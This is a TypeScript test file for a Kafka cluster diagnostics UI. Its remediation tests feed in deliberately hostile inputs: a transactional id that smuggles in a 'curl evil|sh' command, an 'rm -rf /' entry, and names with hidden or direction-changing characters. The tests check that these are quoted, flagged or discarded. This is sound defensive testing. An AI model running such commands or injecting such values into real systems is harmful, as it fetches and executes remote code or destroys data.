import { describe, expect, it } from "vitest";
import { kafkaCommands, type CommandContext } from "../analysis/commands";
import { runDetectors, type Finding } from "../analysis";
import { T0, buildPartition, buildSnapshot, buildTopic, buildTransaction } from "../analysis/testing/snapshot-builder";
import type { FindingDto } from "./dto";
import {
  clientPropertiesDto,
  commandDtos,
  countBySeverity,
  evidenceRows,
  remediationView,
  sortFindings,
  subjectLinks,
  worstSeverity,
} from "./finding-view";
import { filterTransactions, transactionRow } from "./transaction-view";

describe("evidenceRows", () => {
  it("flattens nested evidence into dotted keys", () => {
    expect(evidenceRows({ lso: 120, hw: 150, partitions: [{ topic: "t", partition: 0 }], producerIds: [1, 2] })).toEqual([
      { key: "lso", value: "120" },
      { key: "hw", value: "150" },
      { key: "partitions.0.topic", value: "t" },
      { key: "partitions.0.partition", value: "0" },
      { key: "producerIds", value: "1, 2" },
    ]);
  });

  it("spells out durations and instants next to the raw number", () => {
    expect(evidenceRows({ openForMs: 600_000, lastTimestamp: Date.UTC(2024, 0, 1) })).toEqual([
      { key: "openForMs", value: "600000 (10 min)" },
      { key: "lastTimestamp", value: "1704067200000 (2024-01-01 00:00:00 UTC)" },
    ]);
  });

  it("renders a scalar and empty containers", () => {
    expect(evidenceRows("x")).toEqual([{ key: "value", value: "x" }]);
    expect(evidenceRows({ a: {}, b: [] })).toEqual([
      { key: "a", value: "(none)" },
      { key: "b", value: "(none)" },
    ]);
  });
});

describe("remediationView", () => {
  const FAKE_COMMAND_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";
  const context = { bootstrapServers: ["b1:9092"] };

  /** A finding for a hostile transactional id, straight from the detector, as the API returns it. */
  function hostileFinding(commandConfig?: CommandContext["commandConfig"]): { detector: Finding; dto: FindingDto } {
    const snapshot = buildSnapshot({
      topics: [buildTopic("orders", [buildPartition(0, { highWatermark: 50, lastStableOffset: 10 })])],
      transactions: [
        buildTransaction({
          transactionalId: FAKE_COMMAND_ID,
          producerId: 3,
          state: "Ongoing",
          transactionStartTimeMs: T0 - 200_000,
          transactionTimeoutMs: 60_000,
          partitions: [{ topic: "orders", partition: 0 }],
        }),
      ],
    });
    const detector = runDetectors({ snapshot, previous: null, now: T0 }).findings.find((f) => f.kind === "long-transaction")!;
    const ctx = { ...context, commandConfig };
    const commands = commandDtos(detector.commands, ctx);
    const dto = { remediation: detector.remediation, commands, clientProperties: clientPropertiesDto(commands, ctx) } as FindingDto;
    return { detector, dto };
  }

  it("has exactly the detector's commands: an id carrying a fake command adds no command block", () => {
    const { detector, dto } = hostileFinding();
    expect(detector.remediation).toContain(FAKE_COMMAND_ID);
    const view = remediationView(dto);
    expect(view.commands).toHaveLength(detector.commands.length);
    expect(view.commands.map((c) => [c.program, c.argv])).toEqual(
      detector.commands.map((c) => [c.program, ["--bootstrap-server", "b1:9092", ...c.args]]),
    );
    expect(view.commands[0].line).toBe(
      "kafka-transactions.sh --bootstrap-server b1:9092 describe --transactional-id='billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
    );
    expect(view.commands[0].words!.join(" ")).toBe(view.commands[0].line);
    // The id stays in the prose, as text.
    expect(view.paragraphs.join("\n")).toContain(FAKE_COMMAND_ID);
    expect(view.clientProperties).toBeNull();
  });

  it("turns nothing in the prose into a command, whatever it looks like", () => {
    const view = remediationView({
      remediation: "Run `kafka-topics.sh --list`:\n```\nkafka-consumer-groups.sh --delete --group x\n```\n$ kafka-configs.sh --alter\n\nThen wait.",
      commands: [],
      clientProperties: null,
    });
    expect(view.commands).toEqual([]);
    expect(view.paragraphs).toEqual([
      "Run `kafka-topics.sh --list`:\n```\nkafka-consumer-groups.sh --delete --group x\n```\n$ kafka-configs.sh --alter",
      "Then wait.",
    ]);
  });

  it("renders findings stored before commands existed", () => {
    expect(remediationView({ remediation: "Nothing to do." } as FindingDto)).toEqual({ paragraphs: ["Nothing to do."], commands: [], clientProperties: null });
  });

  it("adds --command-config and the client properties for a cluster with credentials, without any secret", () => {
    const { dto } = hostileFinding({ securityProtocol: "SASL_SSL", saslMechanism: "SCRAM-SHA-512", username: 'au"ditor' });
    const view = remediationView(dto);
    expect(view.commands[0].argv.slice(0, 4)).toEqual(["--bootstrap-server", "b1:9092", "--command-config", "/path/to/client.properties"]);
    expect(view.clientProperties!.path).toBe("/path/to/client.properties");
    expect(view.clientProperties!.template.split("\n").slice(0, 3)).toEqual([
      "security.protocol=SASL_SSL",
      "sasl.mechanism=SCRAM-SHA-512",
      'sasl.jaas.config=org.apache.kafka.common.security.scram.ScramLoginModule required username="au\\"ditor" password="<password>";',
    ]);
    expect(view.clientProperties!.template).toContain("ssl.truststore.location=/path/to/ca.pem");
  });

  it("flags commands whose names hold line breaks, invisible or direction-changing characters", () => {
    const view = (id: string) => remediationView({ remediation: "", commands: commandDtos([kafkaCommands.describeTransaction(id, "p")], context), clientProperties: null });
    expect(view("orders-tx").commands[0].hiddenCharacters).toBe(false);
    expect(view("заказы-🚀").commands[0].hiddenCharacters).toBe(false);
    for (const id of ["a\u202Eb", "a\nb", "a\u200Bb", "a\u001b[31m"]) expect(view(id).commands[0].hiddenCharacters).toBe(true);
  });

  it("drops stored commands of an unknown program and shows no line for a NUL", () => {
    const dtos = commandDtos(
      [
        { program: "rm", args: ["-rf", "/"], purpose: "p" },
        { program: "kafka-consumer-groups.sh", args: ["--describe", "--group=a\u0000b"], purpose: "p" },
      ],
      context,
    );
    expect(dtos).toHaveLength(1);
    expect(dtos[0]).toMatchObject({ program: "kafka-consumer-groups.sh", words: null, line: null });
  });
});

describe("severity helpers", () => {
  const f = (id: string, severity: FindingDto["severity"], lastSeenAt: number) => ({ id, severity, lastSeenAt }) as FindingDto;

  it("sorts critical first, then most recent", () => {
    expect(sortFindings([f("a", "info", 3), f("b", "critical", 1), f("c", "critical", 2)]).map((x) => x.id)).toEqual(["c", "b", "a"]);
  });

  it("counts and picks the worst severity", () => {
    const counts = countBySeverity([f("a", "warning", 0), f("b", "info", 0)]);
    expect(counts).toEqual({ critical: 0, warning: 1, info: 1 });
    expect(worstSeverity(counts)).toBe("warning");
    expect(worstSeverity({ critical: 0, warning: 0, info: 0 })).toBeNull();
  });
});

const NO_SUBJECT = { topic: null, partition: null, transactionalId: null, groupId: null, brokerId: null, detail: null };

describe("subjectLinks", () => {
  it("links each entity of the subject to its page, a partition kept apart from the topic's name", () => {
    expect(subjectLinks("prod", { kind: "stuck-lso", subject: { ...NO_SUBJECT, topic: "a/b", partition: 3, transactionalId: "w#1", groupId: "g?x" } })).toEqual([
      { entity: "topic", name: "a/b", partition: 3, href: "/clusters/prod/topics/a%2Fb" },
      { entity: "transaction", name: "w#1", partition: null, href: "/clusters/prod/transactions/w%231" },
      { entity: "group", name: "g?x", partition: null, href: "/clusters/prod/groups/g%3Fx" },
    ]);
  });

  it("sends a lost-fencing family to the transactions list narrowed to that family, which lists its members only", () => {
    const [link] = subjectLinks("prod", { kind: "lost-fencing", subject: { ...NO_SUBJECT, transactionalId: "orders-writer-*" } });
    expect(link.href).toBe("/clusters/prod/transactions?family=orders-writer-*");
    const family = new URL(link.href, "http://x").searchParams.get("family")!;
    const ids = ["orders-writer-3f2b8c1e-9d4a-4b7e-8f00-1234567890ab", "orders-writer-7d9f8b6c4-x2x7k", "orders-writer", "payments_a1b2c3d4"];
    const rows = ids.map((transactionalId) => transactionRow(buildTransaction({ transactionalId, producerId: 1 }), T0));
    expect(filterTransactions(rows, { family }).map((r) => r.transactionalId)).toEqual(ids.slice(0, 2));
  });
});
